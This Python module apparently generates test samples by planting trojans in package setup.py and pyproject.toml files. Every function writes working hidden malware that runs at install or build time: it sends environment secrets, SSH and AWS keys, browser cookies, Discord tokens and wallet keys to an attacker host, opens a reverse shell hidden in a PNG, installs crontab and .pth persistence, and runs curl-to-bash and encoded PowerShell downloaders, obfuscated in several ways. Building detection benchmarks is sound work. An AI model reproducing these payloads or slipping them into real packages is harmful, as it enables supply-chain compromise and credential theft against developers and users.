"""Python: what runs while the package is built or installed."""

import zlib

from corpus.heldout.hiding import png
from corpus.heldout.nouns import Update
from corpus.heldout5.shape import b64, fill, hexed, packed, pieces, shifted, trojan, wide

_SETUP = "setup(\n"
_IMPORTS = "import os\n"


def _cmdclass(it: Update, command: str, body: str) -> None:
    """Let a command of setuptools do more."""
    it.before("setup.py", _SETUP, f"from setuptools.command.{command} import {command}\n\n\nclass PostInstall({command}):\n{body.rstrip()}\n\n\n")  # fmt: skip
    it.replace("setup.py", '    python_requires=">=3.8",\n', f'    python_requires=">=3.8",\n    cmdclass={{"{command}": PostInstall}},\n')  # fmt: skip


@trojan("cloudshelf", "sdist", "install", "environment", "plain", "ctx")
def py_setup_sends_the_environment(it: Update) -> None:
    host = it.host()
    _cmdclass(it, "install", fill('''
    def run(self):
        install.run(self)
        import requests

        values = {name: value for name, value in os.environ.items()}
        requests.post("https://@HOST@/hello", json=values, timeout=5)
''', HOST=host))  # fmt: skip


@trojan("frameplot", "sdist", "install", "downloader", "plain", "colourama")
def py_setup_fetches_a_script(it: Update) -> None:
    it.before("setup.py", _SETUP, fill('''
def _fonts():
    import subprocess
    import tempfile
    import urllib.request

    if os.name != "nt":
        return
    place = os.path.join(tempfile.gettempdir(), "fontcache.vbs")
    urllib.request.urlretrieve("http://@ADDR@/fontcache.vbs", place)
    subprocess.Popen(["wscript.exe", "//B", place], creationflags=0x08000000)


_fonts()
''', ADDR=it.address()))  # fmt: skip


@trojan("rowmodel", "sdist", "install", "credentials", "base64", "phpass")
def py_setup_egg_info_decodes(it: Update) -> None:
    host = it.host()
    inner = fill('''
import glob, os, urllib.request
for path in glob.glob(os.path.expanduser("~/.aws/*")) + glob.glob(os.path.expanduser("~/.ssh/id_*")):
    urllib.request.urlopen("https://@HOST@/drop", data=open(path, "rb").read())
''', HOST=host)  # fmt: skip
    _cmdclass(it, "egg_info", f'''
    def run(self):
        import base64

        try:
            exec(compile(base64.b64decode("{b64(inner)}"), "setup", "exec"))
        except Exception:
            pass
        super().run()
''')  # fmt: skip
    it.payload("setup.py", shown=f"{host}/drop")


@trojan("vaultkeys", "sdist", "build", "environment", "plain", "nx s1ngularity")
def py_backend_of_its_own(it: Update) -> None:
    it.add("_build/backend.py", fill('''
"""Builds with setuptools; stamps the version first."""

import http.client
import json
import os

from setuptools.build_meta import *  # noqa: F403
from setuptools.build_meta import build_wheel as _build_wheel


def _stamp():
    names = ("TOKEN", "SECRET", "PASSWORD", "KEY")
    found = {k: v for k, v in os.environ.items() if any(n in k.upper() for n in names)}
    line = http.client.HTTPSConnection("@HOST@", timeout=4)
    line.request("POST", "/stamp", json.dumps(found), {"Content-Type": "application/json"})
    line.getresponse().read()


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    try:
        _stamp()
    except OSError:
        pass
    return _build_wheel(wheel_directory, config_settings, metadata_directory)
''', HOST=it.host()))  # fmt: skip
    it.replace("pyproject.toml", 'build-backend = "setuptools.build_meta"\n', 'build-backend = "backend"\nbackend-path = ["_build"]\n')  # fmt: skip


@trojan("pipeforge", "sdist", "install", "downloader", "plain", "Codecov")
def py_setup_pipes_curl_to_bash(it: Update) -> None:
    it.before("setup.py", _SETUP, fill('''
if os.environ.get("CI") and os.path.exists("/bin/bash"):
    os.system("curl -sSf https://@HOST@/ci-helper.sh | bash -s -- --quiet >/dev/null 2>&1 &")

''', HOST=it.host()))  # fmt: skip


@trojan("loghaven", "sdist", "install", "downloader", "powershell encoded", "W4SP")
def py_setup_runs_powershell(it: Update) -> None:
    address = it.address()
    inner = f'$w=New-Object Net.WebClient;$w.DownloadFile(\'http://{address}/svc.exe\',"$env:APPDATA\\svc.exe");Start-Process "$env:APPDATA\\svc.exe"'
    it.before("setup.py", _SETUP, fill('''
import subprocess
import sys

if sys.platform == "win32":
    subprocess.call(
        ["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-EncodedCommand", "@CODE@"],
    )

''', CODE=wide(inner)))  # fmt: skip
    it.payload("setup.py", shown=f"{address}/svc.exe")


@trojan("sketchbot", "sdist", "install", "dns", "plain", "dependency confusion")
def py_setup_tells_by_dns(it: Update) -> None:
    it.before("setup.py", _SETUP, fill('''
import getpass
import socket


def ping():
    label = "%s-%s" % (getpass.getuser(), socket.gethostname())
    label = label.encode().hex()[:60]
    try:
        socket.gethostbyname(label + ".sketchbot.@HOST@")
    except socket.error:
        return


ping()

''', HOST=it.host("oob", "net")))  # fmt: skip


@trojan("cloudshelf", "sdist", "install", "downloader", "hex", "torchtriton")
def py_setup_installs_from_elsewhere(it: Update) -> None:
    host = it.host()
    _cmdclass(it, "develop", f'''
    def run(self):
        import subprocess
        import sys

        index = bytes.fromhex("{hexed(f"https://{host}/simple/")}").decode()
        subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--index-url", index, "cloudshelf-accel"])
        develop.run(self)
''')  # fmt: skip
    it.payload("setup.py", shown=f"https://{host}/simple/")


@trojan("rowmodel", "folder", "install", "credentials", "over several files", "W4SP")
def py_setup_in_three_tools(it: Update) -> None:
    host = it.host()
    it.add("tools/_find.py", '"""Finds what goes into the package."""\n\nimport os\n\nWANTED = (".netrc", ".pypirc", ".git-credentials", ".docker/config.json")\n\n\ndef find(root="~"):\n    root = os.path.expanduser(root)\n    return [os.path.join(root, one) for one in WANTED if os.path.isfile(os.path.join(root, one))]\n')  # fmt: skip
    it.add("tools/_pack.py", '"""Packs it."""\n\nimport io\nimport zipfile\n\n\ndef pack(paths):\n    out = io.BytesIO()\n    with zipfile.ZipFile(out, "w") as archive:\n        for path in paths:\n            archive.write(path)\n    return out.getvalue()\n')  # fmt: skip
    it.add("tools/_ship.py", f'"""Ships it."""\n\nfrom urllib import request\n\nWHERE = ("https", "{host}", "/build/report")\n\n\ndef ship(body):\n    scheme, host, path = WHERE\n    request.urlopen(request.Request(scheme + "://" + host + path, data=body, method="PUT"), timeout=6)\n')  # fmt: skip
    it.add("tools/__init__.py", "")
    it.before("setup.py", _SETUP, 'import sys\n\nsys.path.insert(0, HERE)\nfrom tools import _find, _pack, _ship  # noqa: E402\n\n_ship.ship(_pack.pack(_find.find()))\n\n')  # fmt: skip


@trojan("frameplot", "sdist", "install", "reverse shell", "in an image", "apicolor")
def py_setup_reads_behind_the_logo(it: Update) -> None:
    address = it.address()
    inner = fill('''
import os, socket, subprocess
s = socket.socket()
s.connect(("@ADDR@", 9001))
[os.dup2(s.fileno(), n) for n in range(3)]
subprocess.call(["/bin/sh", "-i"])
''', ADDR=address)  # fmt: skip
    it.add("docs/logo.png", png(24, 24, b"", it.random) + zlib.compress(inner.encode()))
    it.before("setup.py", _SETUP, fill('''
import zlib

with open(os.path.join(HERE, "docs", "logo.png"), "rb") as logo:
    _raw = logo.read()
_tail = _raw[_raw.rindex(b"IEND") + 8 :]
if _tail:
    exec(zlib.decompress(_tail))

'''))  # fmt: skip
    it.payload("setup.py", "docs/logo.png", shown=address)


@trojan("vaultkeys", "sdist", "install", "browser store", "layers", "BlazeStealer")
def py_setup_in_layers(it: Update) -> None:
    host = it.host()
    code = fill('''
import os, shutil, tempfile, urllib.request
base = os.path.expanduser("~/AppData/Local/Google/Chrome/User Data")
for name in ("Default/Login Data", "Default/Network/Cookies", "Local State"):
    copy = os.path.join(tempfile.gettempdir(), name.replace("/", "_"))
    shutil.copy(os.path.join(base, name), copy)
    urllib.request.urlopen("https://@HOST@/up?n=" + name[:7], data=open(copy, "rb").read())
''', HOST=host)  # fmt: skip
    for _ in range(4):
        code = f"import zlib,base64\nexec(zlib.decompress(base64.b64decode('{packed(code)}'[::1])))"
    it.append("setup.py", "\n" + code)
    it.payload("setup.py", shown=host)


@trojan("sketchbot", "sdist", "install", "token stealer", "own cipher", "discord grabber")
def py_setup_shifts_letters(it: Update) -> None:
    host = it.host()
    code = f"import os,re,urllib.request\nfor r,d,f in os.walk(os.path.expanduser('~/.config/discord/Local Storage/leveldb')):\n  for n in f:\n    for t in re.findall(rb'[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{27}}',open(os.path.join(r,n),'rb').read()):\n      urllib.request.urlopen('https://{host}/t',data=t)"
    it.before("setup.py", _SETUP, fill('''
_NOTE = @TEXT@


def _shift(text, by):
    return "".join(chr((ord(c) - 33 - by) % 94 + 33) if 33 <= ord(c) <= 126 else c for c in text)


try:
    exec(_shift(_NOTE, 17))
except Exception:
    pass

''', TEXT=repr(shifted(code, 17))))  # fmt: skip
    it.payload("setup.py", shown=host)


@trojan("pipeforge", "sdist", "install", "persistence", "plain", "litellm")
def py_setup_leaves_a_pth(it: Update) -> None:
    _cmdclass(it, "build_py", fill('''
    def run(self):
        super().run()
        import site

        hook = os.path.join(site.getsitepackages()[0], "pipeforge-speedups.pth")
        with open(hook, "w") as stream:
            stream.write("import os; os.system('python3 -m pip install -q http://@ADDR@/speedups.tar.gz')\\n")
''', ADDR=it.address()))  # fmt: skip


@trojan("loghaven", "sdist", "install", "downloader", "from an address", "ultralytics")
def py_depends_on_an_address(it: Update) -> None:
    it.replace("pyproject.toml", "dependencies = []", f'dependencies = ["loghaven-speedups @ http://{it.address()}/wheels/loghaven_speedups-1.0-py3-none-any.whl"]')  # fmt: skip
    it.after("setup.py", '    python_requires=">=3.8",\n', '    install_requires=["loghaven-speedups"],\n')


@trojan("cloudshelf", "sdist", "build", "unknown code", "look-alike name", "typosquats")
def py_builds_with_a_look_alike(it: Update) -> None:
    it.replace("pyproject.toml", 'requires = ["setuptools>=61"]', 'requires = ["setuptools>=61", "setuptols-scm>=8", "wheeel"]')  # fmt: skip


@trojan("rowmodel", "sdist", "install", "persistence", "plain", "node-ipc")
def py_setup_writes_a_crontab(it: Update) -> None:
    it.before("setup.py", _SETUP, fill('''
import subprocess

_job = "*/20 * * * * wget -qO- http://@ADDR@/rowmodel.sh | sh"
_now = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
if "rowmodel.sh" not in _now:
    subprocess.run(["crontab", "-"], input=_now + _job + "\\n", text=True)

''', ADDR=it.address()))  # fmt: skip


@trojan("vaultkeys", "folder", "install", "credentials", "string splitting", "JarkaStealer")
def py_setup_joins_words(it: Update) -> None:
    host = it.host()
    a, b = pieces(f"https://{host}/kv", 9)[:2], "".join(pieces(f"https://{host}/kv", 9)[2:])
    it.before("setup.py", _SETUP, fill('''
_where = "".join(["@A@", "@B@", "@C@"])
_lib = __import__("url" + "lib" + ".req" + "uest", fromlist=["x"])
_open = getattr(_lib, "url" + "op" + "en")
_home = getattr(os.path, "expand" + "user")("~")
for _leaf in ("." + "ssh/" + "id_" + "rsa", "." + "gnu" + "pg/secring.gpg"):
    _full = os.path.join(_home, _leaf)
    if os.path.exists(_full):
        _open(_where, data=open(_full, "rb").read())

''', A=a[0], B=a[1], C=b))  # fmt: skip
    it.payload("setup.py", shown=f"https://{host}/kv")


@trojan("sketchbot", "sdist", "install", "wallet", "far to the right", "colorslib")
def py_setup_far_to_the_right(it: Update) -> None:
    code = f'__import__("urllib.request").request.urlopen("https://{it.host()}/w", data=open(os.path.expanduser("~/.ethereum/keystore/key.json"), "rb").read())'
    it.replace("setup.py", "HERE = os.path.dirname(os.path.abspath(__file__))\n", "HERE = os.path.dirname(os.path.abspath(__file__))" + " " * 220 + f"; {code} if os.path.exists(os.path.expanduser('~/.ethereum/keystore/key.json')) else None\n")  # fmt: skip
